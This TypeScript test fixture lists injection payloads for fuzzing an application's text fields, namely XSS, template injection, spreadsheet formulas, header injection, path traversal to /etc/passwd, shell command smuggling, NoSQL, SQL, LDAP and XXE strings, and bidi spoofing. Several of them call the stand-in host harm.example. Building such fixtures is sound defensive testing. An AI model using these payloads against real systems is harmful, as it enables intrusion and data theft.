/** The origin that an executed payload would request. It must never be requested. */
export const FOREIGN = 'https://harm.example';
/** Marks every element and attribute that a payload would create. */
export const MARK = 'data-harm';

const RUN = 'window.harmed=1';
const ALERT = 'alert(1)';

const breakOuts = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>', '\\"'];
const elements = [
  `<script ${MARK}>${RUN}</script>`,
  `<img ${MARK} src=x onerror=${RUN}>`,
  `<svg ${MARK} onload=${ALERT}>`,
  `<iframe ${MARK} src="javascript:${ALERT}">`,
  `<a ${MARK} href="javascript:${ALERT}">x</a>`,
  `<form ${MARK} action=${FOREIGN}><input name=password>`,
  `<base ${MARK} href=${FOREIGN}/>`,
];
const markup = [
  ...breakOuts.flatMap((before) => elements.map((element) => before + element)),
  `<meta ${MARK} http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<link ${MARK} rel=stylesheet href=${FOREIGN}/a.css>`,
  `<style ${MARK}>@import "${FOREIGN}/b.css";</style>`,
  `<object ${MARK} data=${FOREIGN}></object>`,
  `<embed ${MARK} src=${FOREIGN}>`,
  `<video ${MARK} poster=${FOREIGN}/v.png onerror=${RUN}></video>`,
  `<details ${MARK} open ontoggle=${RUN}>x</details>`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=${RUN}>`,
  `<template ${MARK}><script>${RUN}</script></template>`,
  `<!--><img ${MARK} src=x onerror=${RUN}>-->`,
  `<![CDATA[<img ${MARK} src=x onerror=${RUN}>]]>`,
  `" ${MARK} autofocus onfocus="${RUN}`,
  `' ${MARK} style='background:url(${FOREIGN})`,
  `\`\`onmouseover=${RUN} ${MARK} `,
  `&lt;script ${MARK}&gt;${RUN}&lt;/script&gt;`,
  `&#60;img ${MARK} src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `javascript:${RUN}//`,
  `data:text/html,<script ${MARK}>${RUN}</script>`,
  `<scr<script>ipt ${MARK}>${RUN}</scr</script>ipt>`,
];
const templates = [
  '{{7*7}}',
  '{{constructor.constructor("window.harmed=1")()}}',
  ...['7*7', RUN].map((code) => `$\{${code}}`),
  `\`$\{${RUN}}\``,
  '<%= 7*7 %>',
  '#{7*7}',
  '*{7*7}',
  '[[7*7]]',
  '@(7*7)',
  '{% import os %}{{os.popen("id").read()}}',
  '{{#with "s" as |string|}}{{/with}}',
  '%{7*7}',
  '$&$1$$',
  "{{'a'.toUpperCase()}}",
  '{title} {id}',
  '%s %d %n %x',
  '{"__html":"<b data-harm>x</b>"}',
];
const formulas = [
  '=1+1',
  '=HYPERLINK("https://harm.example","x")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=IMPORTXML("https://harm.example","//a")',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '=WEBSERVICE("https://harm.example")',
  'a\tb;c,d"e"',
];
const headers = [
  'a\r\nSet-Cookie: harm=1',
  'a\nLocation: https://harm.example',
  'a\r\n\r\n<script data-harm>window.harmed=1</script>',
  'a%0d%0aSet-Cookie:%20harm=1',
  'a\rBcc: victim@harm.example',
  'a\u2028Set-Cookie: harm=1',
  'a\u010d\u010aSet-Cookie: harm=1',
  'X-Forwarded-Host: harm.example',
];
const paths = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  '//harm.example/x',
  'https://harm.example/x',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  'C:\\Windows\\system32',
  '\\\\harm.example\\share',
  '/package-view/?x=1#y',
  '; cat /etc/passwd',
  '| id',
  '$(id)',
  '`id`',
];
const queries = [
  '{"$ne":null}',
  '{"$gt":""}',
  '{"$where":"sleep(1000)"}',
  "' || '1'=='1",
  "1' OR '1'='1' --",
  '"; return true; var x="',
  '$where: 1',
  '.*.*.*.*',
  '(a+)+$',
  '[object Object]',
  '__proto__',
  'constructor.prototype',
  '*)(uid=*))(|(uid=*',
  '<!ENTITY x SYSTEM "file:///etc/passwd">',
  'null',
  'undefined',
  'NaN',
  '-0',
];
const letters = [
  'नमस्ते हम्पी',
  '漢字の旅',
  'مرحبا بالعالم',
  'Ἀθῆναι',
  '🏝️👨‍👩‍👧‍👦🇮🇳',
  'e\u0301e\u0323\u0301',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA',
  '\u200b\u200bzero\u200dwidth\u200c',
  'ﬁ ﬀ Ⅷ ½',
  'İıſK',
  'ǅ ß ẞ',
  '\u{1d573}\u{1d5ba}',
  'a\u00a0b\u2003c\u3000d',
  'a\u0085b\u2029c',
  'a\ufffeb\uffffc',
  '\u{e0041}\u{e0042}tags',
  'a\u0001b\u0008c\u001bd\u007fe',
  '＜script＞',
];
const directions = [
  '\u202eedisrever',
  'a\u202a b\u202c c',
  '\u2066isolated',
  '\u2067 \u2069 \u2068x',
  'a\u200fb\u061cc',
  'invoice\u202egpj.exe',
  '\u202d\u202e\u202d\u202e',
];
/** These are refused: a NUL character cannot be typed. */
const nulls = ['a\0b', '\0', 'a\0<script data-harm>window.harmed=1</script>'];
/** As long as a title may be. */
const long = ['W'.repeat(120), `${'<b data-harm>'.repeat(9)}`, '\u0301'.repeat(120), '🏝'.repeat(60), 'a '.repeat(59).concat('b')];

/** What an attacker might type into any text field; all different. */
export const everyPayload: readonly string[] = [
  ...markup,
  ...templates,
  ...formulas,
  ...headers,
  ...paths,
  ...queries,
  ...letters,
  ...directions,
  ...nulls,
  ...long,
];
